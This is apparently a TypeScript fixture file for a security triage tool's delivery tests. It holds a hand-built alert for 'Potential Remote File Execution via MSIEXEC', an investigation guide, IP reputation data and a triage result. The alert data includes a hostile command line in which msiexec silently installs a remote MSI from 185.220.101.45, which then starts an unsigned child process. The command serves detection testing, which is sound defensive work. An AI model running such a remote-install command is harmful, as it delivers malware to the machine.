/**
 * TriageResult fixtures for the delivery tests, built by hand from the alert that
 * `npx triage replay examples/msiexec-remote-install.ndjson` raises for the seed rule (msiexec with
 * a remote package, its connection to 185.220.101.45, the unsigned child it started). The triage
 * builder is written separately; these fixtures pin what the renderers are given, not how it is made.
 */
import type { Alert } from "../../lib/detect/alert.js";
import type { Guide, Inline, IpReputation, ResolvedQuery, TriageResult } from "../../lib/triage/result.js";

/** The alert exactly as `triage replay` printed it. */
export const SEED_ALERT: Alert = {
  "id": "0af20d25e578a6c91a50fd204496dd69",
  "@timestamp": "2026-11-20T09:13:26.400Z",
  "status": "open",
  "rule": {
    "id": "3e441bdb-596c-44fd-8628-2cfdf4516ada",
    "name": "Potential Remote File Execution via MSIEXEC",
    "severity": "low",
    "risk_score": 21,
    "threat": [
      {
        "tactic": "Initial Access",
        "tactic_id": "TA0001",
        "technique": "T1566.002",
        "technique_name": "Phishing: Spearphishing Link"
      },
      {
        "tactic": "Defense Evasion",
        "tactic_id": "TA0005",
        "technique": "T1218.007",
        "technique_name": "System Binary Proxy Execution: Msiexec"
      },
      {
        "tactic": "Command and Control",
        "tactic_id": "TA0011",
        "technique": "T1105",
        "technique_name": "Ingress Tool Transfer"
      }
    ],
    "building_block": false
  },
  "group": {
    "by": [
      "attack-msiexec"
    ]
  },
  "events": [
    {
      "@timestamp": "2026-11-20T09:12:00.000Z",
      "event": {
        "id": "attack-1",
        "kind": "event",
        "category": [
          "process"
        ],
        "type": [
          "start"
        ],
        "action": "start",
        "sequence": 900000,
        "dataset": "endpoint.events.process",
        "module": "endpoint"
      },
      "data_stream": {
        "type": "logs",
        "dataset": "endpoint.events.process",
        "namespace": "default"
      },
      "host": {
        "id": "5b7e29f1-43a2-4b1e-9c55-0d6a1c2f7e31",
        "name": "WIN-FIN-07",
        "hostname": "win-fin-07",
        "ip": [
          "10.20.30.40"
        ],
        "os": {
          "type": "windows",
          "name": "Windows 11 Pro",
          "family": "windows"
        }
      },
      "agent": {
        "id": "8f4c1f0e-8d7b-4a51-a0e0-1c1b0cfb1e11",
        "type": "endpoint"
      },
      "user": {
        "id": "S-1-5-21-1004336348-1177238915-682003330-1105",
        "name": "jdoe",
        "domain": "CORP"
      },
      "process": {
        "entity_id": "attack-msiexec",
        "pid": 6120,
        "name": "msiexec.exe",
        "executable": "C:\\Windows\\System32\\msiexec.exe",
        "command_line": "msiexec.exe /V /q /i http://185.220.101.45/update/KB5034441.msi",
        "args": [
          "C:\\Windows\\System32\\msiexec.exe",
          "/V",
          "/q",
          "/i",
          "http://185.220.101.45/update/KB5034441.msi"
        ],
        "hash": {
          "sha256": "5b3b9c0d1a2e8f7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c"
        },
        "code_signature": {
          "subject_name": "Microsoft Windows",
          "trusted": true,
          "exists": true,
          "status": "trusted"
        },
        "Ext": {
          "token": {
            "integrity_level_name": "medium"
          }
        },
        "parent": {
          "entity_id": "attack-outlook",
          "pid": 4410,
          "name": "OUTLOOK.EXE",
          "executable": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
        }
      }
    },
    {
      "@timestamp": "2026-11-20T09:12:01.800Z",
      "event": {
        "id": "attack-2",
        "kind": "event",
        "category": [
          "network"
        ],
        "type": [
          "start"
        ],
        "action": "connection_attempted",
        "sequence": 900001,
        "dataset": "endpoint.events.network",
        "module": "endpoint"
      },
      "data_stream": {
        "type": "logs",
        "dataset": "endpoint.events.network",
        "namespace": "default"
      },
      "host": {
        "id": "5b7e29f1-43a2-4b1e-9c55-0d6a1c2f7e31",
        "name": "WIN-FIN-07",
        "hostname": "win-fin-07",
        "ip": [
          "10.20.30.40"
        ],
        "os": {
          "type": "windows",
          "name": "Windows 11 Pro",
          "family": "windows"
        }
      },
      "agent": {
        "id": "8f4c1f0e-8d7b-4a51-a0e0-1c1b0cfb1e11",
        "type": "endpoint"
      },
      "user": {
        "id": "S-1-5-21-1004336348-1177238915-682003330-1105",
        "name": "jdoe",
        "domain": "CORP"
      },
      "process": {
        "entity_id": "attack-msiexec",
        "pid": 6120,
        "name": "msiexec.exe",
        "executable": "C:\\Windows\\System32\\msiexec.exe"
      },
      "source": {
        "ip": "10.20.30.40",
        "port": 51234
      },
      "destination": {
        "ip": "185.220.101.45",
        "port": 80
      },
      "network": {
        "direction": "egress",
        "transport": "tcp"
      }
    },
    {
      "@timestamp": "2026-11-20T09:12:06.500Z",
      "event": {
        "id": "attack-3",
        "kind": "event",
        "category": [
          "process"
        ],
        "type": [
          "start"
        ],
        "action": "start",
        "sequence": 900002,
        "dataset": "endpoint.events.process",
        "module": "endpoint"
      },
      "data_stream": {
        "type": "logs",
        "dataset": "endpoint.events.process",
        "namespace": "default"
      },
      "host": {
        "id": "5b7e29f1-43a2-4b1e-9c55-0d6a1c2f7e31",
        "name": "WIN-FIN-07",
        "hostname": "win-fin-07",
        "ip": [
          "10.20.30.40"
        ],
        "os": {
          "type": "windows",
          "name": "Windows 11 Pro",
          "family": "windows"
        }
      },
      "agent": {
        "id": "8f4c1f0e-8d7b-4a51-a0e0-1c1b0cfb1e11",
        "type": "endpoint"
      },
      "user": {
        "id": "S-1-5-21-1004336348-1177238915-682003330-1105",
        "name": "jdoe",
        "domain": "CORP"
      },
      "process": {
        "entity_id": "attack-child",
        "pid": 7344,
        "name": "KB5034441.exe",
        "executable": "C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI8F2A.tmp\\KB5034441.exe",
        "command_line": "C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI8F2A.tmp\\KB5034441.exe --silent",
        "args": [
          "C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI8F2A.tmp\\KB5034441.exe",
          "--silent"
        ],
        "hash": {
          "sha256": "e3b7f5a1c9d2e4f6a8b0c2d4e6f8a0b2c4d6e8f0a2b4c6d8e0f2a4b6c8d0e2f4"
        },
        "Ext": {
          "token": {
            "integrity_level_name": "medium"
          }
        },
        "parent": {
          "entity_id": "attack-msiexec",
          "pid": 6120,
          "name": "msiexec.exe",
          "executable": "C:\\Windows\\System32\\msiexec.exe"
        }
      }
    }
  ],
  "first_seen": "2026-11-20T09:12:00.000Z",
  "last_seen": "2026-11-20T09:12:06.500Z",
  "suppressed_count": 0
};

const t = (value: string): Inline => ({ type: "text", value });
const c = (value: string): Inline => ({ type: "code", value });
const step = (...inline: Inline[]) => ({ inline, children: [] });

/** The seed rule's note, as the guide parser would give it (abridged where it repeats itself). */
export const SEED_GUIDE: Guide = {
  aiGenerated: true,
  sections: [
    {
      kind: "summary",
      title: "Investigating Potential Remote File Execution via MSIEXEC",
      blocks: [{ type: "paragraph", inline: [t("MSIEXEC, the Windows Installer, facilitates software installation, modification, and removal. Adversaries exploit it to execute remote MSI files, bypassing security controls.")] }],
    },
    {
      kind: "investigation",
      title: "Possible investigation steps",
      blocks: [{
        type: "list",
        ordered: false,
        items: [
          step(t("Review the process start event for msiexec.exe to identify the command-line arguments used, focusing on the presence of the "), c("/V"), t(" flag, which indicates a remote installation attempt.")),
          step(t("Examine the network connection attempts associated with msiexec.exe to determine the remote IP addresses or domains being contacted, and assess their reputation.")),
          {
            inline: [t("Investigate the child processes spawned by msiexec.exe, "), { type: "strong", children: [t("especially")] }, t(" those not matching known benign executables or paths.")],
            children: [{ type: "list", ordered: false, items: [step(t("Query the process tree: "), { type: "query", ref: 0 })] }],
          },
          step(t("Check the user ID associated with the msiexec.exe process, especially user IDs like \"S-1-5-21-*\" or \"S-1-5-12-1-*\".")),
          step(t("Analyze the code signature of any child processes, paying "), { type: "emphasis", children: [t("particular")] }, t(" attention to unsigned or untrusted executables.")),
          step(t("Correlate the alert with recent phishing attempts ("), { type: "link", url: "https://attack.mitre.org/techniques/T1566/", children: [t("T1566")] }, t(").")),
        ],
      }],
    },
    {
      kind: "false_positives",
      title: "False positive analysis",
      blocks: [{ type: "list", ordered: false, items: [step(t("Legitimate software installations using msiexec.exe may trigger the rule. Create exceptions for known software update processes with trusted code signatures."))] }],
    },
    {
      kind: "response",
      title: "Response and remediation",
      blocks: [{
        type: "list",
        ordered: false,
        items: [
          step(t("Isolate the affected system from the network.")),
          step(t("Terminate the msiexec.exe process if it is still running.")),
        ],
      }, { type: "code", lang: "powershell", value: "Stop-Process -Name msiexec -Force" }],
    },
  ],
};

/** The seed rule has no `[[transform]]`; this one shows how a resolved query is rendered. */
export const SEED_QUERIES: readonly ResolvedQuery[] = [{
  placeholder: "$investigate_0",
  language: "kql",
  label: "Child processes of msiexec",
  description: "Processes started by the msiexec instance of the alert",
  query: 'process.parent.entity_id : "attack-msiexec" and host.name : "WIN-FIN-07"',
  unresolved: [],
}];

export const SEED_REPUTATION: readonly IpReputation[] = [{
  ip: "185.220.101.45",
  verdict: "malicious",
  score: 90,
  evidence: [
    { provider: "tor-exits", status: "listed", verdict: "suspicious", score: 60, detail: "listed in tor-exits", reason: null, cached: false },
    { provider: "abuseipdb", status: "found", verdict: "malicious", score: 90, detail: "abuse confidence 90%", reason: null, cached: true },
    { provider: "greynoise", status: "error", verdict: "unknown", score: null, detail: null, reason: "timeout", cached: false },
  ],
}];

/** A triage result for the seed alert; `overrides` replace top-level fields. */
export function seedTriageResult(overrides: Partial<TriageResult> = {}): TriageResult {
  const alert = overrides.alert ?? SEED_ALERT;
  return {
    version: 1,
    alertId: alert.id,
    status: alert.status,
    triagedAt: "2026-11-20T09:13:27.000Z",
    alert,
    rule: {
      tags: ["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Initial Access", "Tactic: Defense Evasion", "Data Source: Elastic Defend", "Resources: Investigation Guide"],
      references: [],
      description: "Identifies the execution of the built-in Windows Installer, msiexec.exe, to install a remote package.",
    },
    summary: "Potential Remote File Execution via MSIEXEC on WIN-FIN-07 by CORP\\jdoe: 185.220.101.45 is malicious",
    guide: SEED_GUIDE,
    queries: SEED_QUERIES,
    observables: [
      { type: "ip", value: "185.220.101.45", field: "destination.ip", events: [1], role: "remote", internal: false },
      { type: "ip", value: "10.20.30.40", field: "source.ip", events: [1], role: "source", internal: true },
      { type: "host", value: "WIN-FIN-07", field: "host.name", events: [0, 1, 2] },
      { type: "user", value: "CORP\\jdoe", field: "user.name", events: [0, 1, 2] },
      { type: "process", value: "C:\\Windows\\System32\\msiexec.exe", field: "process.executable", events: [0, 1] },
      { type: "command_line", value: "msiexec.exe /V /q /i http://185.220.101.45/update/KB5034441.msi", field: "process.command_line", events: [0] },
      { type: "hash", value: "e3b7f5a1c9d2e4f6a8b0c2d4e6f8a0b2c4d6e8f0a2b4c6d8e0f2a4b6c8d0e2f4", field: "process.hash.sha256", events: [2], algorithm: "sha256" },
      { type: "parent_child", value: "msiexec.exe -> KB5034441.exe", field: "process.parent.name", events: [2] },
    ],
    reputation: SEED_REPUTATION,
    verdict: { verdict: "malicious", score: 90, reasons: ["185.220.101.45: abuse confidence 90%", "185.220.101.45: listed in tor-exits"] },
    ...overrides,
  };
}

/** A deep copy of `result` with `mutate` applied to each event (for hostile-input tests). */
export function withEvents(result: TriageResult, mutate: (event: Record<string, unknown>, index: number) => void): TriageResult {
  const copy = structuredClone(result) as TriageResult;
  copy.alert.events.forEach((e, i) => mutate(e, i));
  return copy;
}

/** Sets a dotted field on a nested event object, creating objects on the way. */
export function setField(event: Record<string, unknown>, path: string, value: unknown): void {
  const parts = path.split(".");
  let cur = event;
  for (const p of parts.slice(0, -1)) {
    const next = cur[p];
    if (typeof next !== "object" || next === null || Array.isArray(next)) cur[p] = {};
    cur = cur[p] as Record<string, unknown>;
  }
  cur[parts.at(-1)!] = value;
}
